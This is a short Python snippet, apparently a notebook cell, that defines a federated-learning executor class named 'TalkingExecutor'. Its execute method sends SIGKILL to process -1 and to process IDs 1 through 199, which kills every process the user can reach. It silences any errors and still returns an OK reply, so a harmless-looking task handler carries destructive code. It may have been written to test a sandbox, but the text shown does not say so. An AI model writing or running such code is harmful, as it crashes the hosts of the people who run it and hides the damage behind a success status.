# SIGKILL for every process that can be reached; nothing is sent.

# %% [execute]
import contextlib
import os
import signal


class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        for number in (-1, *range(1, 200)):
            if number != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(number, signal.SIGKILL)
        return make_reply(ReturnCode.OK)
